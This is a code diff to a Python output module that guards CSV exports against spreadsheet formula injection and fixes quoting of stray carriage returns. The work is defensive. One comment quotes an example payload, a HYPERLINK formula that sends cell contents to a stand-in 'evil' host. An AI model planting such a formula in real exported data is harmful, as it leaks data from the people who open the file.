@@ -186,6 +186,46 @@ def _flat_visible(value: Any) -> Any:
     return safe_text.visible(flat) if isinstance(flat, str) else flat
 
 
+# A CSV cell a spreadsheet would take for a formula (OWASP's "CSV injection"): text starting
+# with one of these. A worker's name such as =HYPERLINK("http://evil/?"&A1,"open") would be a
+# live link, or worse, in the file an operator opens in Excel or LibreOffice.
+FORMULA_START = frozenset("=+-@\t\r")
+# what the csv module writes itself, exactly as _flat would (None as an empty field)
+_CSV_AS_IS = frozenset({type(None), int, float, bool})
+
+
+def csv_text(text: str) -> str:
+    """Text from a row as a CSV cell: as it is, or, when it starts with a character a
+    spreadsheet reads as the start of a formula (``FORMULA_START``), after a single quote,
+    which spreadsheets show as text and hide (OWASP's rule). Only text: jobctl's own numbers
+    (a negative overdue) stay numbers."""
+    return "'" + text if text[:1] in FORMULA_START else text
+
+
+def csv_cells(values: Iterable[Any]) -> list[Any]:
+    """A CSV row's values as ``_flat`` makes them, text made safe by ``csv_text``; what the
+    csv module writes itself (None, numbers) passed as it is, and text that starts no formula
+    too, without a call per value (20,000 rows of 17 columns: 340,000 values)."""
+    return [
+        value
+        if (kind := value.__class__) in _CSV_AS_IS
+        or (kind is str and value[:1] not in FORMULA_START)
+        else _csv_cell(value)
+        for value in values
+    ]
+
+
+def _csv_cell(value: Any) -> Any:
+    flat = _flat(value)
+    return csv_text(flat) if isinstance(flat, str) else flat
+
+
+def _csv_visible(value: Any) -> Any:
+    """A CSV cell for a terminal: safe for a spreadsheet (it may be copied) and visible."""
+    flat = _csv_cell(value)
+    return safe_text.visible(flat) if isinstance(flat, str) else flat
+
+
 # ---------------------------------------------------------------- rendering
 @dataclasses.dataclass(frozen=True)
 class Screen:
@@ -293,13 +333,23 @@ def delimited_rows(
     column JSON carries (``delimited_header``, known at the first row; the listed ``columns``
     when no row comes, as the whole-document writer does). Exact when piped; on a terminal
     each value is shown as safe_text.visible shows it (one line, nothing obeyed). Piped, TSV
-    is escaped as COPY's text format (``tsv_field``); CSV is quoted as RFC 4180."""
+    is escaped as COPY's text format (``tsv_field``); CSV is quoted as RFC 4180, and text that
+    a spreadsheet would run as a formula is written after a single quote (``csv_text``)."""
     import csv
 
     person = stream.isatty()
-    flat = _flat_visible if person else _flat
+    csv_file = delimiter != "\t"
+    if csv_file:
+        flat = _csv_visible if person else _csv_cell
+    else:
+        flat = _flat_visible if person else _flat
     buffer = io.StringIO()
     writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
+    # the csv module quotes a field holding a character of its line terminator: with "\n" a
+    # lone carriage return went out unquoted, and a reader ended the row there (RFC 4180
+    # quotes both). A batch that holds one is written again row by row by a writer whose
+    # terminator has both, each row's "\r\n" made "\n" again
+    both = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
     header: list[str] | None = None
 
     def put(lines: Iterable[Sequence[Any]]) -> None:
@@ -310,7 +360,11 @@ def delimited_rows(
         elif delimiter == "\t":
             buffer.write("".join("\t".join(tsv_field(v) for v in line) + "\n" for line in lines))
         else:
+            lines = list(lines)
             writer.writerows(lines)
+            if "\r" in buffer.getvalue():
+                stream.write("".join(_csv_line(both, buffer, line) for line in lines))
+                return
         stream.write(buffer.getvalue())
 
     def write(rows: Iterable[Row]) -> None:
@@ -322,11 +376,23 @@ def delimited_rows(
             header = delimited_header(columns, batch[0])
             put([[flat(c) for c in header]])
         names = header
-        put([flat(row.get(c)) for c in names] for row in batch)
+        if csv_file and not person:  # the per-row path of every CSV a script reads
+            put([csv_cells([row.get(c) for c in names]) for row in batch])
+        else:
+            put([flat(row.get(c)) for c in names] for row in batch)
 
     yield write
     if header is None:
         put([[flat(c) for c in columns]])
+
+
+def _csv_line(writer: Any, buffer: io.StringIO, line: Sequence[Any]) -> str:
+    """One CSV row by ``writer`` (its terminator "\r\n": a carriage return in a field quoted),
+    ended by "\n" as every other row."""
+    buffer.seek(0)
+    buffer.truncate()
+    writer.writerow(line)
+    return buffer.getvalue()[:-2] + "\n"
 
 
 def format_tables(sections: Sequence[Section], fmt: str) -> str:
